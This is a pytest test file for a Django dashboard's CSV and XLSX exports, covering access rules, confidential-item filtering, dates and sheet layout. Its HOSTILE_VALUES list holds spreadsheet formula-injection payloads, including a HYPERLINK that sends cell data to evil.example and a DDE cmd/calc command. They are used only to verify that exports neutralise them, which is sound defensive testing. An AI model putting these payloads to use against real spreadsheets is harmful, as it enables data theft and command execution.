"""Exports of the matrix and the evidence behind the dashboard, as CSV and XLSX."""

import datetime

import pytest
from django.conf import settings
from django.urls import reverse

from evidence.models import Evidence

from ..factories import EvidenceFactory, TransitionFactory
from ..tables import formula_cells, read_download

Rating, Status = Evidence.Rating, Evidence.Status
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def sub_1_1(strategy):
    return strategy.objectives.get(number=1).sub_objectives.get(number=1)


def url(table, fmt):
    return reverse(f"dashboard:export_{table}", args=[fmt])


def rows_of(response, fmt):
    """The header and the rows of a download (after its title and notes)."""
    assert response["Content-Type"].startswith("text/csv" if fmt == "csv" else XLSX_TYPE)
    table = read_download(response)
    return [table.header, *table.rows]


@pytest.mark.parametrize("user", ["staff", "outsider"])
def test_staff_and_outsiders_cannot_export_the_matrix(client_for, request, strategy, user):
    client = client_for(request.getfixturevalue(user))
    assert client.get(url("matrix", "csv")).status_code == 403
    assert client.get(url("matrix", "xlsx")).status_code == 403


def test_users_without_a_role_cannot_export_evidence(client_for, outsider, niger, sub_1_1):
    EvidenceFactory(country=niger, sub_objective=sub_1_1, title="Shareable change")
    for fmt in ("csv", "xlsx"):
        response = client_for(outsider).get(url("evidence", fmt))
        assert response.status_code == 403
        assert b"Shareable" not in response.content


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_staff_export_the_evidence_they_may_see_of_their_own_countries(
    client_for, staff, other_staff, niger, india, sub_1_1, fmt
):
    EvidenceFactory(country=niger, sub_objective=sub_1_1, title="Niger change")
    EvidenceFactory(country=india, sub_objective=sub_1_1, title="India change")
    EvidenceFactory(country=niger, sub_objective=sub_1_1, title="Niger secret", confidential=True)
    EvidenceFactory(
        country=niger, sub_objective=sub_1_1, title="Niger waiting", status=Status.SUBMITTED
    )
    mine = repr(rows_of(client_for(staff).get(url("evidence", fmt)), fmt))
    assert "Niger change" in mine
    assert "India change" not in mine and "Niger secret" not in mine
    assert "Niger waiting" not in mine
    theirs = repr(rows_of(client_for(other_staff).get(url("evidence", fmt)), fmt))
    assert "India change" in theirs and "Niger" not in theirs


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_confidential_evidence_never_leaves_in_an_export_even_for_managers(
    client_for, manager, niger, sub_1_1, fmt
):
    EvidenceFactory(country=niger, sub_objective=sub_1_1, title="Shareable change")
    EvidenceFactory(
        country=niger,
        sub_objective=sub_1_1,
        title="Survivor named here",
        description="Secret details",
        confidential=True,
    )
    response = client_for(manager).get(url("evidence", fmt))
    rows = rows_of(response, fmt)
    text = repr(rows)
    assert "Shareable change" in text
    assert "Survivor named here" not in text and "Secret details" not in text
    assert len(rows) == 2  # header and the one shareable item


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_evidence_export_holds_verified_evidence_up_to_the_as_of_date(
    client_for, manager, niger, sub_1_1, fmt
):
    early = EvidenceFactory(
        country=niger, sub_objective=sub_1_1, title="Early", date=datetime.date(2016, 3, 1)
    )
    EvidenceFactory(
        country=niger, sub_objective=sub_1_1, title="Late", date=datetime.date(2019, 3, 1)
    )
    EvidenceFactory(
        country=niger,
        sub_objective=sub_1_1,
        title="Waiting",
        date=datetime.date(2016, 3, 1),
        status=Status.SUBMITTED,
    )
    response = client_for(manager).get(url("evidence", fmt), {"as_of": "2017-12-31"})
    assert response["Content-Disposition"] == (
        f'attachment; filename="2015-2020-evidence-2017-12-31.{fmt}"'
    )
    header, *rows = rows_of(response, fmt)
    assert header[:7] == [
        "ID",
        "Date",
        "Country",
        "ISO code",
        "Objective",
        "Sub-objective",
        "Title",
    ]
    assert header[-4:] == ["Author", "Verified on", "Verified by", "Link"]
    assert len(rows) == 1
    row = rows[0]
    assert float(row[0]) == early.pk  # XLSX stores every number as a float
    assert str(row[1]).startswith("2016-03-01")
    assert row[2:7] == [
        "Niger",
        "NE",
        "1. Duty bearers are responsive and accountable",
        "1.1",
        "Early",
    ]
    assert row[8:12] == ["National", "Law adopted or amended", "Some progress", "No"]
    assert row[-4] == str(early.author)
    assert row[-1] == f"{settings.SITE_URL}{early.get_absolute_url()}"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_matrix_export_gives_each_cells_status_as_of_the_date(
    client_for, manager, niger, sub_1_1, fmt
):
    EvidenceFactory(
        country=niger,
        sub_objective=sub_1_1,
        rating=Rating.SIGNIFICANT,
        date=datetime.date(2018, 6, 1),
        confidential=True,  # aggregates count it, like the dashboard
    )
    client = client_for(manager)
    before = rows_of(client.get(url("matrix", fmt), {"as_of": "2017-12-31"}), fmt)
    after_response = client.get(url("matrix", fmt), {"as_of": "2018-12-31"})
    after = rows_of(after_response, fmt)
    assert after_response["Content-Type"].startswith("text/csv" if fmt == "csv" else XLSX_TYPE)
    assert len(after) == 1 + 10
    assert after[0][:5] == [
        "Country",
        "ISO code",
        "Counts towards the headline",
        "Since",
        "1.1 Governments and institutions introduce effective measures",
    ]
    niger_before = next(row for row in before if row[1] == "NE")
    niger_after = next(row for row in after if row[1] == "NE")
    assert niger_before[2:5] == ["No", "", "– No evidence yet"]
    assert niger_after[2] == "Yes"
    assert str(niger_after[3]).startswith("2018-06-01")
    assert niger_after[4] == "● Significant change ◆"


def test_cells_that_look_like_formulas_are_exported_as_text(client_for, manager, niger, sub_1_1):
    EvidenceFactory(country=niger, sub_objective=sub_1_1, title='=HYPERLINK("http://x")')
    csv_rows = rows_of(client_for(manager).get(url("evidence", "csv")), "csv")
    xlsx_rows = rows_of(client_for(manager).get(url("evidence", "xlsx")), "xlsx")
    assert csv_rows[1][6] == '\'=HYPERLINK("http://x")'
    assert xlsx_rows[1][6] == '\'=HYPERLINK("http://x")'


def test_an_unknown_format_is_not_found_and_a_bad_date_refused(client_for, manager, strategy):
    client = client_for(manager)
    assert client.get(url("matrix", "pdf")).status_code == 404
    assert client.get(url("evidence", "csv"), {"as_of": "soon"}).status_code == 400


def test_the_evidence_export_makes_the_same_queries_however_many_rows(
    client_for, manager, niger, sub_1_1, django_assert_max_num_queries
):
    client = client_for(manager)
    EvidenceFactory(country=niger, sub_objective=sub_1_1)
    with django_assert_max_num_queries(8) as few:
        rows_of(client.get(url("evidence", "csv")), "csv")
    EvidenceFactory.create_batch(30, country=niger, sub_objective=sub_1_1)
    with django_assert_max_num_queries(8) as many:
        assert len(rows_of(client.get(url("evidence", "csv")), "csv")) == 32
    assert len(many) == len(few)


HOSTILE_VALUES = [
    '\x01=HYPERLINK("http://evil.example/?"&A1,"x")',
    '   =cmd|" /C calc"!A0',
    "\t=1+1",
    "+SUM(1,2)",
    "@IMPORTXML(1)",
    "Vertical\x0btab and C1\x85control",
]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("hostile", HOSTILE_VALUES)
def test_hostile_stored_text_never_becomes_a_formula_nor_breaks_an_export(
    client_for, manager, niger, sub_1_1, fmt, hostile
):
    item = EvidenceFactory(country=niger, sub_objective=sub_1_1)
    # Stored as the audit found them: written before the validator, so never checked.
    Evidence.objects.filter(pk=item.pk).update(
        title=hostile, description=hostile, source_citation=hostile
    )
    sub_1_1.__class__.objects.filter(pk=sub_1_1.pk).update(short_title=hostile)
    client = client_for(manager)
    for table in ("evidence", "matrix"):
        response = client.get(url(table, fmt))
        assert response.status_code == 200
        download = read_download(response)
        values = [str(v) for line in [download.header, *download.rows] for v in line]
        assert not any(v.lstrip().startswith(("=", "+", "-", "@")) for v in values), values
        assert not any(c in v for v in values for c in "\x01\x0b\x85")
        if fmt == "xlsx":
            assert formula_cells(download) == []


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_evidence_export_says_who_verified_each_item_when_and_whether_it_qualifies(
    client_for, manager, niger, sub_1_1, fmt
):
    item = EvidenceFactory(country=niger, sub_objective=sub_1_1, rating=Rating.SIGNIFICANT)
    at = datetime.datetime(2018, 3, 2, 9, 30, tzinfo=datetime.UTC)
    TransitionFactory(
        evidence=item,
        from_status=Status.SUBMITTED,
        to_status=Status.VERIFIED,
        actor=manager,
        at=at,
    )
    download = read_download(client_for(manager).get(url("evidence", fmt)))
    row = dict(zip(download.header, download.rows[0], strict=True))
    assert row["Counts towards the headline"] == "Yes"
    assert row["Verified by"] == manager.get_full_name()
    assert str(row["Verified on"]).startswith("2018-03-02")
    assert any("Counts towards the headline:" in note for note in download.notes)


def test_the_xlsx_exports_are_laid_out_to_be_read_as_they_are(client_for, manager, niger, sub_1_1):
    EvidenceFactory(country=niger, sub_objective=sub_1_1, rating=Rating.SIGNIFICANT)
    for table in ("matrix", "evidence"):
        download = read_download(
            client_for(manager).get(url(table, "xlsx"), {"as_of": "2020-12-31"})
        )
        sheet = download.sheet
        header_row = len(download.notes) + 3
        assert sheet["A1"].font.bold and sheet["A1"].font.size == 14
        assert sheet.freeze_panes == f"A{header_row + 1}"
        assert sheet.auto_filter.ref.startswith(f"A{header_row}:")
        assert all(cell.font.bold for cell in sheet[header_row] if cell.value)
        assert sheet.column_dimensions["A"].width >= 8
        wrapped = [cell.alignment.wrap_text for cell in sheet[header_row + 1]]
        assert any(wrapped)
        assert "As of 31 Dec 2020" in download.notes[0]
    notes = read_download(client_for(manager).get(url("matrix", "xlsx"))).notes
    assert any(note.startswith("Key: ● Significant change") for note in notes)
